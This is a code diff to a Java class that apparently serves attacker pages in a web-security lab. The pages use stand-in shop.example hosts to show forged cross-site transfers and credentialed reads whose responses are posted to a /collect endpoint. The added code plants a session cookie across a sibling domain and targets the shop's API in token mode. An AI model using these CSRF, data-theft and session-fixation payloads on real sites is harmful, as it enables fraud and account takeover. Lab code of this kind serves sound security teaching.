@@ -7,15 +7,18 @@ import dev.authscope.server.http.Answer;
 import dev.authscope.server.http.Call;
 import dev.authscope.server.http.Route;
 import dev.authscope.server.json.JsonText;
+import dev.authscope.server.settings.Switches;
 
 /**
  * Pages that make a visitor's browser send something to the shop. What they send, parameters say: {@code do} is one of form,
- * image, link, fetch, json, read; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
- * how many milliseconds of lab time pass before the form submits itself; {@code manual} leaves the form to be submitted.
+ * image, link, fetch, json, read, nothing; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
+ * how many milliseconds of lab time pass before the form submits itself; {@code manual} leaves the form to be submitted. {@code sid} is a session id
+ * that the page plants as a cookie for the shop.
  */
 public final class AttackPages {
 
     private static final String SHOP = "https://shop.example";
+    private static final String API = "https://api.shop.example";
 
     private AttackPages() {}
 
@@ -26,7 +29,13 @@ public final class AttackPages {
 
     private static Answer win(Call call) {
         Map<String, String> asked = call.query();
-        String url = asked.getOrDefault("url", SHOP + "/transfer");
+        String planted = asked.getOrDefault("sid", "");
+        if (planted.matches("[A-Za-z0-9_-]{1,64}")) {
+            // A host may set a cookie for its whole domain, and so for the shop beside it (RFC 6265bis section 8.6).
+            String name = call.settings().get(Switches.COOKIE_NAME);
+            call.setCookie(name, name + "=" + planted + "; Domain=shop.example; Path=/");
+        }
+        String url = asked.getOrDefault("url", transfer(call));
         String to = asked.getOrDefault("to", "mallory");
         String amount = asked.getOrDefault("amount", "500000");
         String body = switch (asked.getOrDefault("do", "form")) {
@@ -42,11 +51,19 @@ public final class AttackPages {
                     + ", amount: " + text(amount) + "})}).catch(e => console.log(String(e)));");
             case "read" -> script("fetch(" + text(url) + ", {credentials: 'include'}).then(r => r.text())"
                     + ".then(t => fetch('/collect', {method: 'POST', body: t})).catch(e => console.log(String(e)));");
+            case "nothing" -> "";
             default -> form(asked, url, to, amount);
         };
         return Answer.html("<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
                 + "<title>You have won</title>\n</head>\n<body>\n<h1>You have won</h1>\n" + body
                 + "</body>\n</html>\n").noStore();
+    }
+
+    /** Where the shop takes transfers: at its API when its pages send an access token. */
+    private static String transfer(Call call) {
+        boolean byToken = call.settings().get(Switches.MODE).startsWith("jwt")
+                && !call.settings().get(Switches.AT_STORE).endsWith("ookie");
+        return (byToken ? API : SHOP) + "/transfer";
     }
 
     private static String form(Map<String, String> asked, String url, String to, String amount) {
